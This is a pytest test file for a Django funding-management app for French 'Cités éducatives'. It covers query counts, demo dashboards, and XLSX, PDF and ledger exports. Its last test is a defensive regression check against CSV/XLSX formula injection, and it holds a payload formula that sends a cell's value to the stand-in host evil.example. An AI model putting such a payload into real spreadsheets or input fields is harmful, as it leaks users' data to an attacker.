import io
from datetime import date
from decimal import Decimal

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from citeduc.accounts.enums import Role
from citeduc.accounts.models import User
from citeduc.action_plan.tests.factories import ActionFactory
from citeduc.demo.loading import DemoResult
from citeduc.funding.funders import seed_funders
from citeduc.funding.models import Decision, GrantRequest, RequestedAmount
from tests.support.world import World


@pytest.fixture
def coordination(demo: DemoResult, client: Client) -> Client:
    client.force_login(
        User.objects.get(memberships__cite=demo.cite, memberships__role=Role.COORDINATION)
    )
    return client


def test_programmation_query_count_is_flat_from_5_to_200_actions(
    client: Client, world: World
) -> None:
    cite = world.cite
    funders = seed_funders(cite)
    client.force_login(world.users[Role.PILOTE_ETAT])
    url = reverse("funding:programmation", args=[cite.slug, 2025])

    def add(n: int) -> None:
        for _ in range(n):
            action = ActionFactory.create(cite=cite)
            grant = GrantRequest.objects.create(
                cite=cite, action=action, applicant=world.own.service.organisation, year=2025
            )
            for code in ("P147", "VILLE"):
                RequestedAmount.objects.create(
                    request=grant, funder=funders[code], amount=Decimal(100)
                )
                Decision.objects.create(
                    request=grant, funder=funders[code], amount=Decimal(100), date=date(2025, 3, 1)
                )

    def queries() -> int:
        with CaptureQueriesContext(connection) as context:
            assert client.get(url).status_code == 200
        return len(context.captured_queries)

    add(4)  # with the world's own request: 5
    five = queries()
    add(195)
    assert queries() == five
    assert "39\u202f800,00 €" in client.get(url).content.decode()  # 199 requests × 2 × 100 €


class TestOnTheDemo:
    """The Besançon demo, loaded once for these tests, as its coordination sees it."""

    def test_dashboard_shows_envelope_split_fund_and_findings(self, coordination: Client) -> None:
        html = coordination.get(
            reverse("funding:dashboard", args=["besancon", 2025])
        ).content.decode()
        assert "Données de démonstration" in html
        assert "550\u202f000,00 €" in html  # the P147 envelope
        assert "R-FUND-3" in html and "Part hors État : <strong>30,92 %</strong>" in html
        assert "solde 30\u202f000,00 €" in html  # the fund: 15 000 + 15 000, nothing spent yet
        html_2026 = coordination.get(
            reverse("funding:dashboard", args=["besancon", 2026])
        ).content.decode()
        assert "Données de démonstration" not in html_2026  # 2026 stays for the Cité to fill
        assert (
            coordination.get(reverse("funding:dashboard", args=["besancon", 2031])).status_code
            == 404
        )

    def test_programmation_table_and_xlsx(self, coordination: Client) -> None:
        html = coordination.get(
            reverse("funding:programmation", args=["besancon", 2025])
        ).content.decode()
        assert "Total accordé" in html and "730\u202f000,00 €" in html  # the fund is not an action
        xlsx = coordination.get(reverse("funding:programmation_xlsx", args=["besancon", 2025]))
        workbook = load_workbook(io.BytesIO(xlsx.content))
        sheet = workbook.active
        assert sheet["A1"].value.startswith("Cité éducative de Besançon — programmation 2025")
        assert sheet["A2"].value == "Action" and sheet.freeze_panes == "A3"
        money = [c for c in sheet[3] if isinstance(c.value, (int, float)) and c.column > 6]
        assert money and all(c.number_format == '#,##0.00\\ "€"' for c in money)
        per_funder = workbook["Par financeur"]
        accorded = [r[3] for r in per_funder.iter_rows(min_row=3, values_only=True)]
        assert sum(v for v in accorded if isinstance(v, (int, float))) == 730000

    def test_request_page(self, coordination: Client) -> None:
        grant = GrantRequest.objects.get(
            action__description__startswith="S'appuyer sur l'expérience de l'AFEV"
        )
        html = coordination.get(
            reverse("funding:request_detail", args=["besancon", grant.pk])
        ).content.decode()
        assert (
            "45\u202f000,00 €" in html and "40\u202f000,00 €" in html
        )  # asked and decided by P147
        assert "Données de démonstration" in html

    def test_fund_ledger_and_its_statement_for_the_copil(self, coordination: Client) -> None:
        html = coordination.get(
            reverse("funding:fund_ledger", args=["besancon", 2024])
        ).content.decode()
        assert "Principal du collège Diderot" in html
        assert "Abondement annuel P230 prévu par l&#x27;article 11" in html
        assert "solde : <strong>30\u202f000,00 €</strong>" in html
        pdf = coordination.get(reverse("funding:fund_statement_pdf", args=["besancon", 2024]))
        assert pdf["Content-Type"] == "application/pdf" and pdf.content.startswith(b"%PDF-")
        xlsx = coordination.get(reverse("funding:fund_statement_xlsx", args=["besancon", 2024]))
        sheet = load_workbook(io.BytesIO(xlsx.content)).active
        rows = list(sheet.iter_rows(values_only=True))
        # The balance: written in words under the title, and as a formula over the amounts
        # (contributions positive, expenses negative) whose sum is that balance.
        assert "solde 30 000,00 €" in rows[2][0]
        assert rows[-1][0] == "Total (calculé)" and rows[-1][-1] == f"=SUM(E5:E{len(rows) - 1})"
        assert sum(r[-1] for r in rows[4:-1]) == 30000


def test_a_formula_as_project_title_stays_text_in_the_programmation(
    client: Client, world: World
) -> None:
    """The attack: a project titled `=HYPERLINK(…)` became a live formula in the XLSX."""
    attack = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'
    world.own.action.title = attack
    world.own.action.save()
    client.force_login(world.users[Role.COORDINATION])
    response = client.get(reverse("funding:programmation_xlsx", args=[world.cite.slug, 2025]))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    cells = [row[0] for row in sheet.iter_rows(min_row=3) if row[0].value == attack]
    assert cells and all(cell.data_type == "s" for cell in cells)
